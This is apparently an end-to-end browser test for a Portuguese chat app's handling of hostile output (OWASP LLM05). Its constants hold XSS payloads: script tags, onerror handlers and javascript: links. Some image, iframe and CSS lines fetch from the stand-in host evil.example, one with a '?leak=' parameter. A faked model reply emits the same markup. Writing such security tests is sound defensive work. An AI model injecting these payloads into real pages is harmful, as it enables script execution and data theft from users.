/**
 * Output handling (OWASP LLM05) in a real browser: a teacher's document, its file name and its
 * collection's name are full of `<script>`, `<img onerror>`, `javascript:` links, markdown and
 * HTML images from another host; a student sees them in the documents page, an extractive
 * answer, its sources and the source viewer, the history, then in a generated answer whose
 * model (the fake Groq, `--reply`) writes such markup itself. Every payload would set
 * `window.__pwned`, call `alert` or fetch from evil.example: nothing may run and nothing may
 * leave 127.0.0.1, including in the DOM's passing states while an answer streams (a
 * MutationObserver records every element and attribute the page ever had).
 */
import path from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, inject, test } from "vitest";
import { createCollection, json, uploadFile, waitUntilOk } from "./api";
import { fileName, keepScreen } from "./checks";
import {
  ADMIN_TOKEN,
  ARTIFACTS,
  startBackend,
  startFakeGroq,
  startStack,
  stopStack,
  tempDir,
  type Process,
} from "./stack";

const EVIL = "evil.example";
const COLLECTION = `Hostil <img src=x onerror="window.__pwned='collection';alert('collection')">`;
// A file name cannot hold "/": no closing tags in it.
const FILENAME = `<img src=x onerror="window.__pwned='filename';alert('filename')"><svg onload=alert(1)>.md`;
const DOCUMENT = `# Mitose <script>window.__pwned = 'heading'; alert('heading')</script>

A mitose é a divisão celular que produz duas células-filhas idênticas. <img src="https://${EVIL}/onerror.png" onerror="window.__pwned='img';alert('img')">

<script>window.__pwned = 'script'; alert('script')</script>

A mitose tem prófase, metáfase, anáfase e telófase. Veja [clique aqui](javascript:window.__pwned='md-link';alert('md-link')) e <a href="javascript:alert('a')" onclick="alert('onclick')">este link</a>.

A mitose mantém o número de cromossomos. ![pixel](https://${EVIL}/pixel.png?leak=mitose) ![relativo](//${EVIL}/protocol-relative.png) ![dados](data:image/svg+xml,<svg onload=alert('data')>)

A citocinese divide o citoplasma na mitose. <iframe src="https://${EVIL}/frame"></iframe> <svg onload="alert('svg')"><image href="https://${EVIL}/svg.png"/></svg>

Na mitose o fuso se forma. <link rel="stylesheet" href="https://${EVIL}/style.css"><style>@import url(https://${EVIL}/import.css); body { background: url(https://${EVIL}/bg.png) }</style>

A mitose ocorre em células somáticas. <form action="https://${EVIL}/form"><button formaction="javascript:alert('form')">enviar</button></form> <object data="https://${EVIL}/object"></object> <video poster="https://${EVIL}/poster.png"></video>

Sobre a mitose leia https://${EVIL}/bare e www.${EVIL}/www e <https://${EVIL}/autolink>.

![referência][pixel-ref]

[pixel-ref]: https://${EVIL}/ref.png
`;
const QUESTION = `O que é a mitose? <img src=x onerror="window.__pwned='question';alert('question')">`;
const GENERATED = [
  `Resposta gerada: a mitose divide a célula [1]. <script>window.__pwned='gen-script';alert('gen')</script>`,
  `<img src="https://${EVIL}/gen.png" onerror="window.__pwned='gen-img';alert('gen-img')">`,
  "",
  `![pixel](https://${EVIL}/gen-pixel.png) [clique](javascript:window.__pwned='gen-link') ` +
    `[entre](https://${EVIL}/login) <https://${EVIL}/gen-auto> <iframe src="https://${EVIL}/gen-frame"></iframe>`,
].join("\n");

const tempDirs: string[] = [];
let backendPort: number;
let dataDir: string;
let backend: Process | undefined;
let fakeGroq: Process | undefined;
let frontend: Process;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let watch: Watch;

function isLocal(url: URL): boolean {
  if (url.protocol === "data:" || url.protocol === "blob:" || url.protocol === "about:") return true;
  return url.hostname === "127.0.0.1" || url.hostname === "localhost";
}

/**
 * Runs in the page before any of its scripts: records every element or attribute that could
 * run code or fetch from elsewhere, whenever it appears, even if it is gone a moment later.
 */
function watchTheDom() {
  const found: string[] = [];
  (window as unknown as { __violations: string[] }).__violations = found;
  const URL_ATTRIBUTES = ["href", "src", "srcset", "action", "formaction", "data", "poster", "xlink:href"];
  const FETCHING = new Set(["IMG", "IFRAME", "FRAME", "OBJECT", "EMBED", "VIDEO", "AUDIO", "SOURCE", "LINK", "IMAGE"]);
  const check = (el: Element) => {
    const name = `${el.tagName.toLowerCase()}${el.id ? `#${el.id}` : ""}`;
    for (const attr of el.getAttributeNames()) {
      const value = el.getAttribute(attr) ?? "";
      if (/^on/i.test(attr)) found.push(`${name} has ${attr}="${value}"`);
      if (URL_ATTRIBUTES.includes(attr.toLowerCase())) {
        if (/^\s*(javascript|vbscript|data:text\/html)/i.test(value)) found.push(`${name} ${attr}="${value}"`);
        const foreign = value
          .split(/[\s,]+/)
          .filter(Boolean)
          .some((v) => {
            try {
              const url = new URL(v, location.href);
              return url.origin !== location.origin && /^https?:$/.test(url.protocol);
            } catch {
              return false;
            }
          });
        // A link to another host fetches nothing until clicked; anything else would.
        if (foreign && FETCHING.has(el.tagName.toUpperCase())) found.push(`${name} ${attr}="${value}"`);
      }
    }
    if (el.tagName === "SCRIPT" && /__pwned|alert\(/.test(el.textContent ?? "")) {
      found.push(`script: ${(el.textContent ?? "").slice(0, 80)}`);
    }
    if (el.tagName === "STYLE" && (el.textContent ?? "").includes("evil.example")) found.push("style from the document");
  };
  const visit = (node: Node) => {
    if (node instanceof Element) {
      check(node);
      node.querySelectorAll("*").forEach(check);
    }
  };
  new MutationObserver((records) => {
    for (const record of records) {
      if (record.type === "attributes") visit(record.target);
      record.addedNodes.forEach(visit);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
}

type Watch = { dialogs: string[]; foreignRequests: string[] };

/**
 * A browser context whose pages all record the DOM (`watchTheDom`) and their dialogs (then
 * dismissed); every request (popups included) is seen, and those to other hosts are recorded
 * and refused, so that a payload that got through fails the test instead of waiting on DNS.
 */
async function watchedContext(): Promise<{ context: BrowserContext; page: Page; watch: Watch }> {
  const watch: Watch = { dialogs: [], foreignRequests: [] };
  const context = await browser.newContext({ locale: "pt-BR", viewport: { width: 1280, height: 800 } });
  await context.addInitScript(watchTheDom);
  context.on("request", (request) => {
    if (!isLocal(new URL(request.url()))) watch.foreignRequests.push(request.url());
  });
  context.on("page", (p) =>
    p.on("dialog", (dialog) => {
      watch.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    }),
  );
  await context.route((url) => !isLocal(url), (route) => route.abort());
  return { context, page: await context.newPage(), watch };
}

async function inertness(target: Page, seen: Watch) {
  const state = await target.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown; __violations?: string[] };
    return { pwned: w.__pwned ?? null, violations: w.__violations ?? null };
  });
  return { ...state, dialogs: [...seen.dialogs], foreignRequests: [...seen.foreignRequests] };
}

/** Nothing ran, nothing was fetched from another host, nothing dangerous was ever in the DOM. */
async function expectInert(where: string) {
  const state = await inertness(page, watch);
  expect(state.pwned, `${where}: window.__pwned`).toBeNull();
  expect(state.violations, `${where}: the DOM`).toEqual([]);
  expect(state.dialogs, `${where}: dialogs`).toEqual([]);
  expect(state.foreignRequests, `${where}: requests off 127.0.0.1`).toEqual([]);
}

async function ask(question: string) {
  await page.getByTestId("new-chat").click();
  await expect.poll(() => page.getByTestId("assistant-message").count()).toBe(0);
  await page.getByTestId("composer").fill(question);
  await page.getByTestId("composer").press("Enter");
  const answer = page.getByTestId("assistant-message").last();
  await answer.waitFor({ state: "visible", timeout: 60_000 });
  await expect.poll(() => answer.getAttribute("data-state"), { timeout: 60_000 }).toBe("done");
  // The markdown renderer, not the plain text shown until its chunk arrives.
  await expect.poll(() => answer.getByTestId("plain-answer").count(), { timeout: 15_000 }).toBe(0);
  return answer;
}

beforeAll(async () => {
  backendPort = inject("backendPort");
  dataDir = tempDir("chatgepeto-e2e-output-");
  tempDirs.push(dataDir);
  [backend, frontend, browser] = await startStack(backendPort, dataDir, { name: "backend-output-handling" });
  ({ context, page, watch } = await watchedContext());
});

afterEach(async (test) => {
  if (test.task.result?.state !== "fail" || !page) return;
  await keepScreen(page, `failed-output-${fileName(test.task.name)}`);
});

afterAll(async () => {
  await context?.close();
  await stopStack(browser, [frontend, backend, fakeGroq], tempDirs);
});

describe("hostile markup is shown as text", () => {
  test("the watch itself sees a payload that runs (a page that is not the app's)", async () => {
    const control = await watchedContext();
    const url = "http://127.0.0.1:9/control"; // served by the route below, no server needed
    await control.page.route(url, (route) =>
      route.fulfill({
        contentType: "text/html",
        body:
          "<!doctype html><div id=x></div><script>document.getElementById('x').innerHTML = " +
          `'<img src="https://${EVIL}/control.png" onerror="window.__pwned=1;alert(2)">'</script>`,
      }),
    );
    await control.page.goto(url);
    await expect.poll(() => control.page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBe(1);
    const state = await inertness(control.page, control.watch);
    expect((state.violations ?? []).join("\n")).toContain("onerror");
    expect(state.foreignRequests).toEqual([`https://${EVIL}/control.png`]);
    expect(state.dialogs).toEqual(["alert: 2"]);
    await control.context.close();
  });

  test("a document, its name and its collection's name full of payloads", async () => {
    const collection = await createCollection(backend!.url, ADMIN_TOKEN, COLLECTION);
    const file = new Blob([DOCUMENT], { type: "text/markdown" });
    const documentId = await uploadFile(backend!.url, ADMIN_TOKEN, collection.id, file, FILENAME);
    await expect
      .poll(async () => (await json(await fetch(`${backend!.url}/api/documents/${documentId}`), 200)).status, {
        timeout: 90_000,
      })
      .toBe("ready");

    await page.goto(`${frontend.url}/documents`);
    await page.getByTestId("admin-token").fill(ADMIN_TOKEN);
    await page.getByTestId("admin-token").press("Enter");
    await page.getByTestId("collection-item").filter({ hasText: "Hostil" }).click();
    const row = page.locator('[data-testid="document-row"][data-status="ready"]');
    await row.waitFor({ state: "visible", timeout: 30_000 });
    expect(await row.textContent()).toContain("onerror"); // the name, as text
    await page.screenshot({ path: path.join(ARTIFACTS, "output-documents.png") });
    await expectInert("documents page");
  });

  test("an extractive answer, its sources, the source viewer and the history", async () => {
    await page.goto(frontend.url);
    await page.getByTestId("collection-picker").selectOption({ label: COLLECTION });
    const answer = await ask(QUESTION);
    expect(await answer.textContent()).toMatch(/mitose/i);
    expect(await page.getByTestId("user-message").last().textContent()).toContain("<img src=x onerror=");
    const sources = answer.getByTestId("source-item");
    expect(await sources.count()).toBeGreaterThan(0);
    expect(await answer.getByTestId("sources-list").textContent()).toContain("onerror");
    await expectInert("extractive answer");

    // Every cited passage in the viewer: the document's text around the quote, as text.
    for (let i = 0; i < (await sources.count()); i++) {
      await sources.nth(i).click();
      const panel = page.getByTestId("source-panel");
      await panel.waitFor({ state: "visible" });
      await panel.getByTestId("source-chunk").waitFor({ state: "visible", timeout: 30_000 });
      await expectInert(`source viewer ${i + 1}`);
      await page.keyboard.press("Escape");
      await panel.waitFor({ state: "hidden" });
    }

    const history = page.getByTestId("history-item").filter({ hasText: "O que é a mitose?" }).first();
    await history.waitFor({ state: "visible" });
    expect(await history.textContent()).toContain("onerror");
    await page.screenshot({ path: path.join(ARTIFACTS, "output-extractive.png") });
    await expectInert("history");
  });

  test("a generated answer whose model writes scripts, images and javascript: links", async () => {
    await backend?.stop();
    fakeGroq = await startFakeGroq({ reply: GENERATED });
    backend = await startBackend(backendPort, dataDir, fakeGroq.url, { name: "backend-output-generated" });
    await waitUntilOk(`${frontend.url}/api/ready`);
    await page.goto(frontend.url);
    await page.getByTestId("collection-picker").selectOption({ label: COLLECTION });
    const answer = await ask(QUESTION);
    const text = (await answer.textContent()) ?? "";
    expect(text).toContain("Resposta gerada");
    expect(text).toContain("<script>"); // raw HTML shown as the text it is
    // Markdown images, links and autolinks to other hosts were removed by the backend.
    for (const gone of ["gen-pixel", "/login", "gen-auto", "javascript:"]) expect(text).not.toContain(gone);
    expect(await answer.getByTestId("citation-chip").count()).toBeGreaterThan(0);
    expect(await answer.locator("a[href]").count()).toBe(0);
    await page.screenshot({ path: path.join(ARTIFACTS, "output-generated.png") });
    await expectInert("generated answer");
  });
});
